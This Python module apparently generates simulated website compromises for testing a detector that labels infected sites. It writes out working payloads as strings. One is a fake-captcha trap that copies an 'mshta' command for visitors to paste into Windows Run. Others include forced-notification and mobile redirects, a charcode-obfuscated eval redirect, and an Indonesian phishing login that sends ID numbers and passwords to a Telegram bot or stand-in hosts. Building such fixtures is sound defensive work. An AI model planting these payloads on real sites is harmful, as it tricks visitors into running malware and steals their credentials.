"""Sites on which strangers lie in wait: traps, forwarding, stolen logins, and their own content."""

from html import escape
from typing import Annotated, ClassVar, Literal

import msgspec

from ronda.lab import classes
from ronda.lab.causes import markup
from ronda.lab.causes.base import Cause, Consequence
from ronda.lab.causes.gambling import REPLACED
from ronda.lab.draft import Draft
from ronda.lab.format import Host, SitePath

CAPTCHA = "Verifikasi bahwa Anda bukan robot: tekan Windows + R, lalu Ctrl + V, lalu Enter."
PUSH = "Klik Izinkan untuk membuktikan bahwa Anda bukan robot."


class MaliciousRedirect(Cause, frozen=True, kw_only=True, tag="malicious_redirect"):
    """Visitors are trapped or sent on: a false captcha, forced notifications, phones, a market."""

    what: Literal["captcha", "push", "phone_script", "phone_http", "market", "packed_market"] = (
        "captcha"
    )
    host: Host = "undian-harian.net"
    words: str = ""  # what a trap tells its visitors; "": its usual words
    on_shared_host: ClassVar[bool] = True
    front_page: ClassVar[str] = "edits"

    def plant(self, draft: Draft) -> None:
        """Put it at the end of the page, or let the server send phones away."""
        if self.what == "phone_http":
            away = f"https://{self.host}/m?from={draft.host}"
            draft.answer("/", lambda: draft.redirect(away, 302), view="phone")
            return
        draft.allow_scripts()
        block = getattr(self, f"_{self.what}")()
        draft.edit(lambda html: markup.at_end(html, block))

    def _captcha(self) -> str:
        told = escape(self.words or CAPTCHA)
        return (
            f'<div class="cek-akses"><p>{told}</p><button id="cek">OK</button></div><script>'
            "document.getElementById('cek').onclick=function(){navigator.clipboard.writeText("
            f"'mshta https://{self.host}/cek.hta')}}</script>"
        )

    def _push(self) -> str:
        told = escape(self.words or PUSH)
        return (
            f'<div class="cek-akses"><p>{told}</p></div><script>Notification.requestPermission()'
            f".then(function(){{location.href='https://{self.host}/ok'}})</script>"
        )

    def _phone_script(self) -> str:
        return (
            "<script>if(/Android|iPhone|Mobile/i.test(navigator.userAgent)&&"
            "/google|bing/.test(document.referrer)){window.location.replace("
            f"'https://{self.host}/m')}}</script>"
        )

    def _market(self) -> str:
        return (
            "<script>setTimeout(function(){window.location.href="
            f"'https://{self.host}/r?zoneid=40711&subid=a9&cost=0.2'}},6000)</script>"
        )

    def _packed_market(self) -> str:
        code = f"window.location='https://{self.host}/r?zoneid=40711&subid=a9'"
        codes = ",".join(str(ord(letter)) for letter in code)
        return f"<script>eval(String.fromCharCode({codes}))</script>"

    def consequence(self) -> Consequence:
        """A malicious redirect; what is packed may be called a malicious script as well.

        What awaits phones that the server sends away is not opened: it may be taken for gambling.
        """
        redirect = frozenset({classes.MALICIOUS_REDIRECT})
        script = frozenset({classes.MALICIOUS_SCRIPT})
        if self.what == "packed_market":
            return Consequence(expects=redirect, allows=script)
        if self.what == "phone_http":
            gambling = frozenset({classes.INJECTED_GAMBLING})
            return Consequence(expects=redirect, allows=gambling)
        return Consequence(expects=redirect)


class PhishingLogin(Cause, frozen=True, kw_only=True, tag="phishing_login"):
    """A login below the site's address whose password ends with a stranger."""

    brand: str
    path: SitePath = "/wp-includes/akun/"
    to: Literal["bot", "address", "stranger"] = "bot"
    host: Host = "cek-penerima.net"
    on_shared_host: ClassVar[bool] = True
    front_page: ClassVar[str] = "edits"

    def plant(self, draft: Draft) -> None:
        """Serve the page, and a link to it."""
        body = self._page()
        draft.allow_scripts()
        draft.answer(self.path, lambda: draft.page(body))
        link = f'<p><a href="{draft.below(self.path)}">Masuk {escape(self.brand)}</a></p>'
        draft.edit(lambda html: markup.before_footer(html, link))

    def _page(self) -> str:
        name = escape(self.brand)
        action, script = {
            "bot": (
                "#",
                "<script>document.forms[0].addEventListener('submit',function(e){fetch('https://"
                "api.telegram.org/bot0:CONTOH/sendMessage?text='+encodeURIComponent("
                "this.nik.value+'|'+this.sandi.value))})</script>",
            ),
            "address": ("http://198.51.100.77/simpan.php", ""),
            "stranger": (f"https://{self.host}/p", ""),
        }[self.to]
        code = (
            '<p><input name="kode_otp" placeholder="Kode OTP"></p>' if self.to == "stranger" else ""
        )
        return (
            f'<!doctype html><html lang="id"><head><title>{name}</title></head><body><h1>{name}</h1>'
            f'<form method="post" action="{action}"><p><input name="nik" placeholder="NIK"></p>'
            f'<p><input name="sandi" type="password" placeholder="Kata sandi"></p>{code}'
            f"<button>Masuk</button></form><p>&copy; {name}</p>{script}</body></html>"
        )

    def consequence(self) -> Consequence:
        """Phishing; the script that sends may be called malicious as well."""
        allows = frozenset({classes.MALICIOUS_SCRIPT} if self.to == "bot" else ())
        return Consequence(expects=frozenset({classes.PHISHING}), allows=allows)


class ForeignContent(Cause, frozen=True, kw_only=True, tag="foreign_content"):
    """The front page is a stranger's: another trade or another language, and no word of the office."""

    title: str
    paragraphs: Annotated[tuple[str, ...], msgspec.Meta(min_length=1)]
    language: str = "id"
    on_shared_host: ClassVar[bool] = True
    front_page: ClassVar[str] = "replaces"

    def plant(self, draft: Draft) -> None:
        """Replace the front page."""
        title = escape(self.title)
        said = "".join(f"<p>{escape(text)}</p>" for text in self.paragraphs)
        draft.replace_front(
            f'<!doctype html><html lang="{escape(self.language)}"><head><title>{title}</title></head>'
            f"<body><h1>{title}</h1>{said}<p>&copy; {title}</p></body></html>"
        )

    def consequence(self) -> Consequence:
        """A stranger's content; the site's own cannot be seen."""
        return Consequence(expects=frozenset({classes.FOREIGN_CONTENT}), hides=REPLACED)
